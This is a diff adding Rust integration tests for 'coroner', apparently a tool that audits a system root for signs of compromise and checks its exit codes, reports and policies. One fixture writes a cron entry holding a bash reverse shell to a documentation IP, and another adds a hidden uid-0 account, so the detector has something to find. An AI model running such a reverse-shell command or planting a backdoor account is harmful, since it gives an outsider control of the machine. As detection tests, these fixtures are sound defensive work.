@@ -1,0 +1,181 @@
+//! Arguments, exit statuses and where reports go.
+
+mod support;
+
+use std::path::Path;
+use std::process::Stdio;
+
+use coroner_core::{Level, Report};
+use coroner_testkit::Tree;
+use support::{audit, coroner, report, status};
+
+/// A root on which nothing is found: quick to audit, with the files every plugin asks for.
+fn quiet() -> Tree {
+    Tree::new()
+        .file("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n")
+        .file("/etc/hostname", "quiet\n")
+        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
+        .file("/etc/shadow", "root:*:19000:0:99999:7:::\n")
+        .mode("/etc/shadow", 0o640)
+        .file("/etc/group", "root:x:0:\n")
+        .dir("/proc")
+        .dir("/sys")
+}
+
+fn refused(args: &[&str], says: &str) {
+    let output = coroner().args(args).output().unwrap();
+    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
+    assert_eq!(status(&output), 64, "{args:?}: {errors}");
+    assert!(errors.contains(says), "{args:?}: {errors}");
+    assert!(output.stdout.is_empty());
+}
+
+#[test]
+fn wrong_arguments_end_with_64_and_say_what_to_mend() {
+    refused(&["audti"], "audit");
+    refused(&["audit", "--root", "/no/such/root"], "/no/such/root");
+    refused(&["audit", "--only", "corn"], "cron");
+    refused(&["audit", "--trusted-net", "203.0.113.0/33"], "203.0.113.0/33");
+    refused(&["audit", "--label", "gateway"], "KEY=VALUE");
+    refused(&["audit", "--proc", "/proc"], "--root");
+    refused(&["audit", "-o", "/no/such/dir/report.json"], "/no/such/dir");
+    refused(&["audit", "--wordlist", "/no/such/list"], "/no/such/list");
+    refused(&["judge", "/no/such/report"], "/no/such/report");
+    refused(&["judge", "/dev/null"], "not a coroner report");
+    refused(&["plugins", "nothing"], "coroner plugins");
+}
+
+#[test]
+fn a_policy_that_could_do_nothing_is_refused() {
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("policy.toml");
+    std::fs::write(&policy, "[[accept]]\nrule = 'no/such'\npath = '/x'\nreason = 'r'\n").unwrap();
+    refused(&["audit", "--policy", policy.to_str().unwrap()], "no/such");
+}
+
+#[test]
+fn a_report_in_a_file_is_whole_and_says_what_standard_output_would() {
+    let root = quiet().write();
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("report.json");
+    let output = coroner()
+        .args(["audit", "--root"])
+        .arg(root.path())
+        .arg("-o")
+        .arg(&file)
+        .output()
+        .unwrap();
+    assert!(output.stdout.is_empty(), "{}", String::from_utf8_lossy(&output.stdout));
+    let written = Report::from_json(&std::fs::read(&file).unwrap()).unwrap();
+    assert_eq!(i32::from(written.verdict.level.exit_status()), status(&output));
+    let names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
+    assert_eq!(names.len(), 1, "nothing is left beside the report");
+}
+
+#[test]
+fn a_full_disk_leaves_no_report_that_looks_whole() {
+    let root = quiet().write();
+    let output = coroner()
+        .args(["audit", "--format", "json", "--root"])
+        .arg(root.path())
+        .stdout(std::fs::File::create("/dev/full").unwrap())
+        .output()
+        .unwrap();
+    assert_eq!(status(&output), 70);
+    assert!(String::from_utf8_lossy(&output.stderr).contains("standard output"));
+}
+
+#[test]
+fn a_reader_that_goes_away_does_not_hide_the_verdict() {
+    let root = quiet().write();
+    let mut child = coroner()
+        .args(["audit", "--format", "json", "--root"])
+        .arg(root.path())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .unwrap();
+    drop(child.stdout.take());
+    let output = child.wait_with_output().unwrap();
+    assert!([0, 1, 2, 3].contains(&status(&output)), "{output:?}");
+    assert!(output.stderr.is_empty(), "{output:?}");
+}
+
+#[test]
+fn a_saved_report_is_judged_to_the_same_findings() {
+    let root = quiet()
+        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n")
+        .file("/etc/cron.d/x", "* * * * * root bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n")
+        .write();
+    let (first, verdict) = audit(root.path(), &[]);
+    assert_eq!(first.verdict.level, Level::Compromised);
+    let saved = root.path().join("report.json");
+    std::fs::write(&saved, serde_json::to_vec(&first).unwrap()).unwrap();
+    let output = coroner().args(["judge", "--format", "json"]).arg(&saved).output().unwrap();
+    let again = report(&output);
+    assert_eq!(again.findings, first.findings);
+    assert_eq!((again.verdict, again.items), (first.verdict, first.items));
+    assert_eq!(status(&output), verdict);
+}
+
+#[test]
+fn an_accepted_finding_stays_visible_and_no_longer_speaks() {
+    let root = quiet()
+        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n")
+        .write();
+    let (report, _) = audit(root.path(), &[]);
+    let loud: Vec<_> = report.findings.iter().filter(|f| f.path.is_some()).collect();
+    assert!(!loud.is_empty());
+    let accept = |f: &&coroner_core::Finding| {
+        format!("[[accept]]\nrule = '{}'\nid = '{}'\nreason = 'test'\n", f.rule, f.id)
+    };
+    let policy = root.path().join("policy.toml");
+    std::fs::write(&policy, loud.iter().map(accept).collect::<String>()).unwrap();
+    let (accepted, _) = audit(root.path(), &["--policy", policy.to_str().unwrap()]);
+    assert_eq!(accepted.findings.len(), report.findings.len());
+    assert!(accepted.findings.iter().filter(|f| f.path.is_some()).all(|f| f.accepted.is_some()));
+    assert!(!accepted.verdict.reasons.iter().any(|id| loud.iter().any(|f| f.id == *id)));
+}
+
+#[test]
+fn the_same_root_gives_the_same_bytes_times_aside() {
+    let root = quiet().file("/etc/cron.d/a", "* * * * * root /bin/true\n").write();
+    let masked = |(mut report, _): (Report, i32)| {
+        let fixed = coroner_core::Time::from_seconds(0);
+        (report.run.started, report.run.finished) = (fixed, fixed);
+        report.coverage.iter_mut().for_each(|row| row.ms = 0);
+        serde_json::to_string(&report).unwrap()
+    };
+    assert_eq!(masked(audit(root.path(), &[])), masked(audit(root.path(), &[])));
+}
+
+#[test]
+fn without_root_nothing_is_called_clean() {
+    use std::os::unix::process::CommandExt;
+    if !coroner_host::is_privileged() {
+        return;
+    }
+    let root = quiet().write();
+    open_to_all(root.path());
+    let binary = tempfile::Builder::new().prefix("bin").tempdir().unwrap();
+    open_to_all(binary.path());
+    let copy = binary.path().join("coroner");
+    std::fs::copy(env!("CARGO_BIN_EXE_coroner"), &copy).unwrap();
+    let output = std::process::Command::new(copy)
+        .args(["audit", "--format", "json", "--root"])
+        .arg(root.path())
+        .uid(65534)
+        .gid(65534)
+        .output()
+        .unwrap();
+    let report = report(&output);
+    assert_eq!(report.verdict.level, Level::Inconclusive);
+    assert_eq!(status(&output), 3);
+    let unseen: Vec<_> = report.gaps.iter().map(|gap| gap.path.to_string()).collect();
+    assert!(unseen.contains(&"/etc/shadow".to_owned()), "{unseen:?}");
+}
+
+fn open_to_all(dir: &Path) {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
